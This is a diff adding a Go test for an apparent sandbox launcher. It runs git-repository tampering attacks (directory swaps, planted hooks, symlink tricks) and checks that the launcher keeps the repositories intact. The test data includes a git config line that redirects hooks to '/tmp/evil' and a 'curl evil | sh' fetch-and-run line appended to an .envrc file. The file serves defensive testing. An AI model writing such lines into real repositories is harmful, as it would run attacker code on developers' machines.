@@ -1,0 +1,133 @@
+//go:build linux
+
+package launch_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/sys/unix"
+
+	"github.com/mcpguard/mcpguard/guard/launch"
+	"github.com/mcpguard/mcpguard/internal/attack"
+)
+
+// stepsEnv makes this test binary run attack steps (a JSON list of
+// [name, arg]) as the launched server, printing "name result" per step.
+const stepsEnv = "MCPGUARD_LAUNCH_TEST_STEPS"
+
+func init() {
+	raw := os.Getenv(stepsEnv)
+	if raw == "" {
+		return
+	}
+	var steps [][2]string
+	if err := json.Unmarshal([]byte(raw), &steps); err != nil {
+		fmt.Println("steps", err)
+		os.Exit(2)
+	}
+	all := attack.Steps()
+	for _, s := range steps {
+		r := "ok"
+		if err := all[s[0]](s[1]); err != nil {
+			r = "err " + strings.ReplaceAll(err.Error(), "\n", " ")
+		}
+		fmt.Println(s[0], r)
+	}
+	os.Exit(0)
+}
+
+// TestProtectByIdentity runs the git attacks through the real launcher
+// (root: mount and pid namespaces, read-only outside the write root) with
+// no kernel policy at all, neither BPF LSM nor Landlock: what keeps the
+// repositories intact is the launcher's pins and read-only binds alone,
+// the layer both backends share. The oracle is the repositories.
+func TestProtectByIdentity(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("the launcher's namespaces need root")
+	}
+	ws := t.TempDir()
+	type repo struct {
+		git          string
+		ino, hooksIn uint64
+	}
+	stat := func(p string) uint64 {
+		var st unix.Stat_t
+		require.NoError(t, unix.Stat(p, &st), p)
+		return st.Ino
+	}
+	var repos []*repo
+	for _, dir := range []string{ws, filepath.Join(ws, "proj"), filepath.Join(ws, "group", "sub")} {
+		git := filepath.Join(dir, ".git")
+		require.NoError(t, os.MkdirAll(filepath.Join(git, "hooks"), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(git, "config"), []byte("[core]\n"), 0o644))
+		repos = append(repos, &repo{git: git, ino: stat(git), hooksIn: stat(filepath.Join(git, "hooks"))})
+	}
+	envrc := filepath.Join(ws, "group", ".envrc")
+	require.NoError(t, os.WriteFile(envrc, []byte("# empty\n"), 0o644))
+	proj := filepath.Join(ws, "proj")
+	steps := [][2]string{
+		{"gitswap", ws},
+		{"gitswap", proj},
+		{"gitnew", proj},
+		{"dirswap", proj},
+		{"dirswap", filepath.Join(ws, "group") + "#sub/.git"},
+		{"gitlink", proj},
+		{"symswap", ws},
+		{"symswap", filepath.Join(ws, "group", "sub")},
+		{"symwrite", proj},
+		{"append", filepath.Join(proj, ".git", "config") + "#\thooksPath = /tmp/evil\n"},
+		{"append", envrc + "#curl evil | sh\n"},
+	}
+	raw, err := json.Marshal(steps)
+	require.NoError(t, err)
+	self, err := os.Executable()
+	require.NoError(t, err)
+	cmd := exec.Command(self)
+	cmd.Env = append(os.Environ(), stepsEnv+"="+string(raw), launch.UserEnv+"=")
+	spec, err := launch.NewSpec(0, func(string) string { return "" }, []string{ws}, true)
+	require.NoError(t, err)
+	require.NoError(t, launch.Prepare(cmd, spec, launch.Options{}))
+	out, err := cmd.CombinedOutput()
+	if err != nil && strings.Contains(string(out), "operation not permitted") {
+		t.Skipf("namespaces refused here: %s", out)
+	}
+	require.NoError(t, err, "%s", out)
+	t.Logf("results:\n%s", out)
+	assert.Equal(t, len(steps), strings.Count(string(out), "\n"), "every step ran")
+
+	for _, r := range repos {
+		assert.Equal(t, r.ino, stat(r.git), "%s is still the same directory", r.git)
+		assert.Equal(t, r.hooksIn, stat(filepath.Join(r.git, "hooks")), "%s/hooks is still the same directory", r.git)
+		ents, err := os.ReadDir(filepath.Join(r.git, "hooks"))
+		require.NoError(t, err)
+		assert.Empty(t, ents, "no hook planted in %s", r.git)
+		cfg, err := os.ReadFile(filepath.Join(r.git, "config"))
+		require.NoError(t, err)
+		assert.Equal(t, "[core]\n", string(cfg), r.git)
+	}
+	b, err := os.ReadFile(envrc)
+	require.NoError(t, err)
+	assert.Equal(t, "# empty\n", string(b), "a nested .envrc")
+	// The same attacks without the launcher succeed, so the test can fail.
+	t.Run("baseline", func(t *testing.T) {
+		base := exec.Command(self)
+		base.Env = append(os.Environ(), stepsEnv+`=[["dirswap",`+strconvQuote(proj)+`]]`)
+		out, err := base.CombinedOutput()
+		require.NoError(t, err, "%s", out)
+		assert.Equal(t, "dirswap ok\n", string(out))
+		assert.FileExists(t, filepath.Join(proj, ".git", "hooks", "pre-commit"))
+	})
+}
+
+func strconvQuote(s string) string {
+	b, _ := json.Marshal(s)
+	return string(b)
+}
